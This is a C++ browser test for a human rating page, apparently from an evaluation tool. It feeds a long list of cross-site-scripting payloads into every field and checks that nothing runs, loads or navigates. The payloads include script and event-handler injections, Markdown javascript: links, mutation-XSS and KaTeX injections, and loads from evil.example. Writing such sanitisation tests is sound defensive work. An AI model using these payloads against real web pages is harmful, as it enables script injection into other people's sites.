// Texts that want to run, to load, to navigate or to escape from where they stand: as prompt, as both answers, as note
// and as comment.
#include <iostream>
#include <set>

#include "tests/rating_page/page.h"

namespace assay::testing {
namespace {

using nlohmann::json;

const char* const kHostile[] = {
    // scripts
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "</div></section></form><script>window.__pwned=2</script>",
    "<scr<script>ipt>window.__pwned=3</scr</script>ipt>",
    "<script\n>window.__pwned=4</script\n>",
    "</textarea><script>window.__pwned=5</script>",
    "</title></style></noscript><script>window.__pwned=6</script>",
    "<![CDATA[<script>window.__pwned=7</script>]]>",
    "<!--><script>window.__pwned=8</script-->",
    "\x01<script>window.__pwned=9</script>",
    "&lt;script&gt;window.__pwned=10&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=11&#60;/script&#62;",
    "\\<script>window.__pwned=12\\</script>",
    // handlers
    "<img src=x onerror=window.__pwned=13>",
    "<img src=\"x\" onerror=\"window.__pwned=14\">",
    "<svg onload=window.__pwned=15>",
    "<svg><script>window.__pwned=16</script></svg>",
    "<svg><animate onbegin=window.__pwned=17 attributeName=x dur=1s>",
    "<body onload=window.__pwned=18>",
    "<details open ontoggle=window.__pwned=19>",
    "<input autofocus onfocus=window.__pwned=20>",
    "<video><source onerror=window.__pwned=21></video>",
    "<audio src=x onerror=window.__pwned=22>",
    "<marquee onstart=window.__pwned=23>",
    "<div style=animation-name:x onanimationstart=window.__pwned=24>",
    "<p onmouseover=window.__pwned=25>hover</p>",
    "<math><mi xlink:href=javascript:window.__pwned=26>x</mi></math>",
    // what loads or navigates
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=27</script>'></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>send</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<a href=javascript:window.__pwned=28>x</a>",
    "<portal src=https://evil.example/></portal>",
    "<template><img src=x onerror=window.__pwned=29></template>",
    // Markdown that becomes those
    "[x](javascript:window.__pwned=30)",
    "[x](java\nscript:window.__pwned=31)",
    "[x](&#106;avascript:window.__pwned=32)",
    "[x](data:text/html,<script>window.__pwned=33</script>)",
    "[x](vbscript:x \"\\\" onmouseover=window.__pwned=34 x=\\\"\")",
    "[x](https://evil.example '\" onclick=window.__pwned=35 \"')",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"window.__pwned=36](x)",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:window.__pwned=37>",
    "<https://evil.example/\"onclick=window.__pwned=38>",
    "[x]\n\n[x]: javascript:window.__pwned=39",
    "```html\" onclick=\"window.__pwned=40\n<script>window.__pwned=41</script>\n```",
    "```<script>window.__pwned=42</script>\nx\n```",
    "`<script>window.__pwned=43</script>`",
    "# <img src=x onerror=window.__pwned=44>",
    "|<img src=x onerror=window.__pwned=45>|\n|-|\n|<script>window.__pwned=46</script>|",
    "- [x] <input type=checkbox onclick=window.__pwned=47>",
    "<<script>window.__pwned=48//<</script>",
    "a@b.c\"onclick=window.__pwned=49",
    // mutation
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=50>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.__pwned=51>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__pwned=52&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=53>",
    "<select><template shadowrootmode=open><script>window.__pwned=54</script></template></select>",
    "<xmp><p title=\"</xmp><svg/onload=window.__pwned=55>\">",
    "<a id=document><a id=document name=cookie>x</a>",
    "<img name=getElementById><form id=form><input name=elements>",
    "<div id=save class=primary>Save</div><div id=status>Saved.</div>",
    // formulas
    "$\\href{javascript:window.__pwned=56}{x}$",
    "$$\\url{javascript:window.__pwned=57}$$",
    "$\\htmlData{x=\"><script>window.__pwned=58</script>}{x}$",
    "$\\htmlData{a\" onmouseover=\"window.__pwned=59=1}{x}$",
    "$\\htmlStyle{background:url(https://evil.example/)}{x}$",
    "$\\includegraphics[alt=\"><script>window.__pwned=60</script>]{https://evil.example/x.png}$",
    "$\\text{<script>window.__pwned=61</script>}$",
    "\\(\\unknown{<img src=x onerror=window.__pwned=62>}\\)",
    "$$\\frac{<svg onload=window.__pwned=63>$$",
    "$\\verb|<img src=x onerror=window.__pwned=64>|$",
    "$\\color{red;background:url(https://evil.example/)}x$",
    // directions and templates
    "\u202E<script>window.__pwned=65</script>\u202C",
    "{{constructor.constructor('window.__pwned=66')()}} ${window.__pwned=67} <%= window.__pwned=68 %>",
    "__proto__ [constructor](prototype) toString",
};

const std::set<std::string> kElements = {"P",     "BR",    "HR",         "H3",  "H4",   "H5", "H6",     "UL",
                                         "OL",    "LI",    "BLOCKQUOTE", "PRE", "CODE", "EM", "STRONG", "DEL",
                                         "TABLE", "THEAD", "TBODY",      "TR",  "TH",   "TD", "SPAN",   "DIV"};
const std::set<std::string> kAttributes = {"class", "dir", "start", "align", "data-language", "tabindex"};

class Hostile : public RatingPage {};

TEST_F(Hostile, NothingRunsLoadsOrNavigates) {
  std::vector<json> pairs;
  for (const std::string text : kHostile) {
    pairs.push_back(a_pair(text, text, "An answer. " + text, "> " + text));
    pairs.back()["category"] = text;
    pairs.back()["vote"] = {{"choice", 1}, {"flags", {text}}, {"comment", text}};
  }
  RatingStub stub(pairs);
  enter(stub);
  for (size_t i = 0; i < pairs.size(); ++i) {
    SCOPED_TRACE(kHostile[i]);
    wait_for_pair(static_cast<int>(i) + 1);
    const json found = browser().script(
        R"(const boxes = ['prompt', 'left', 'right', 'note'].map((id) => document.getElementById(id));
           const all = boxes.flatMap((box) => [...box.querySelectorAll(':not(.katex, .katex *)')]);
           const formulas = boxes.flatMap((box) => [...box.querySelectorAll('.katex *')]);
           return { elements: [...new Set(all.map((e) => e.nodeName))],
             attributes: [...new Set(all.flatMap((e) => e.getAttributeNames()))],
             active: formulas.filter((e) => e.matches('a, img, [href], [src], [id], [onmouseover]')).length,
             empty: boxes.filter((box) => box.innerText.trim() === '').length,
             comment: document.getElementById('comment').value,
             reachable: document.elementFromPoint(1380, 870)?.closest('button')?.id ?? '' };)");
    for (const std::string element : found.at("elements")) EXPECT_TRUE(kElements.contains(element)) << element;
    for (const std::string name : found.at("attributes")) EXPECT_TRUE(kAttributes.contains(name)) << name;
    EXPECT_EQ(found.at("active"), 0);
    EXPECT_EQ(found.at("empty"), 0);
    EXPECT_EQ(found.at("comment").get<std::string>().substr(0, 8), std::string(kHostile[i]).substr(0, 8));
    EXPECT_EQ(found.at("reachable"), "save");  // nothing lies over the page's own controls
    EXPECT_EQ(browser().script("return window.__pwned ?? null"), nullptr);
    browser().keys("3" + std::string(kEnter));
  }
  browser().wait_for("document.title.startsWith('All done')");
  EXPECT_EQ(stub.votes().size(), pairs.size());
  expect_clean(stub);
  std::cout << pairs.size() << " hostile texts, each in five places\n";
}

}  // namespace
}  // namespace assay::testing
